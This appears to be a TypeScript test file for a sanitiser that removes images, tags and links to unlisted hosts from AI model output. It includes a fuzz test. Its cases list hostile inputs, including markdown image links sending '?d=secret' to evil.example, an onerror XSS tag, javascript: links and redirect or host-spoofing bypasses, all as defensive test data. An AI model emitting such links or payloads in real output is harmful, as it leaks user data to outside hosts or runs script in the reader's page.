import fc from "@/lib/testing/fast-check";
import { describe, expect, it } from "vitest";
import { textParts } from "@/lib/client/text-parts";
import { markdownBlocks } from "@/lib/client/markdown-blocks";
import { safeText } from ".";

const hosts = new Set(["shop.example", "*.docs.example"]);
const safe = (text: string) => safeText(text, hosts);

describe("what a model writes", () => {
  it.each([
    ["See ![pic](https://evil.example/?d=secret) now", "See pic now"],
    ["![x][1]\n\n[1]: https://evil.example/?d=secret", "x\n\n"],
    ['![logo]\n\n[logo]: <https://evil.example/a.png> "t"', "logo\n\n"],
    ["[![x](https://evil.example/a.png)](https://evil.example/b)", "x"],
    [`Hi <img src="https://evil.example/?d=1" onerror=alert(1)> there`, "Hi  there"],
    ["<img src=https://evil.example/a", ""],
    ["<style>a{background:url(https://evil.example/x)}</style>", "a{background:url(evil.example"],
    ["<!-- <b> -->text", "text"],
    ["<https://evil.example/?d=secret>", "evil.example"],
    ["https://evil.example/?d=secret.", "evil.example."],
    ["[click](javascript:alert(1))", "click"],
    ["[click](data:text/html,hi)", "click"],
    ["javascript:alert(1)", ")"],
    ["[a](https://shop.example@evil.example/)", "a"],
    ["[a](https://shop.example.evil.example/)", "a"],
    ["[a](//evil.example/)", "a"],
    ["[a](https://shop.example/redirect?to=https://evil.example)", "a"],
    ["[a](https://shop.example/redirect?to=https%3A%2F%2Fevil.example)", "a"],
    ["[a](https://shop.example/go?u=%252F%252Fevil.example)", "a"],
    ["[a](https://shop.example//evil.example)", "a"],
    ["[a][r]\n\n[r]: https://evil.example", "a\n\n"],
    ["![\\](//evil.example/a.png)", "[\\] (//evil.example/a.png)"],
    ["[deep [![x](https://evil.example)] link](https://evil.example)", "deep [x] link"],
  ])("%j is %j", (text, shown) => expect(safe(text)).toBe(shown));

  it.each([
    "Two to three working days.",
    "See [returns](https://shop.example/returns) or https://shop.example/help?a=1.",
    "https://a.b.docs.example/x",
    "If x < y and y > z, then [1] holds; 3 <5.",
    "- one\n- two **bold** `code`",
    "时间：三天（含周末）。",
    "Ask at 10:30, ratio 1:2, note: yes.",
  ])("%j stays", (text) => expect(safe(text)).toBe(text));
});

it("never leaves a link to an unlisted host, an image or a tag, whatever is written", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      "![",
      "[",
      "](",
      "]",
      ")",
      "<",
      ">",
      "<img src=",
      "https://evil.example/x",
      "https://shop.example/y",
      "[1]: ",
      "\n",
      "]:",
      "!",
      " ",
      "//",
      "//evil.example/a.png",
      "javascript:",
      "<a href='",
      "\\",
      '"',
      "<!--",
      "-->",
      "http",
      "s://evil.example",
    ),
    fc.string({ maxLength: 5 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      const shown = safe(pieces.join(""));
      expect(safe(shown)).toBe(shown);
      const urls = [
        ...textParts(shown).flatMap(({ url }) => url ?? []),
        ...markdownBlocks(shown).flatMap((block) =>
          "spans" in block ? block.spans.flatMap(({ url }) => url ?? []) : [],
        ),
      ];
      for (const url of urls) expect(new URL(url).hostname).toBe("shop.example");
      expect(shown).not.toMatch(/!\[[^\]]*\]\(|<img\b[^>]*>|<a\s/i);
    }),
    { numRuns: 3000 },
  );
});
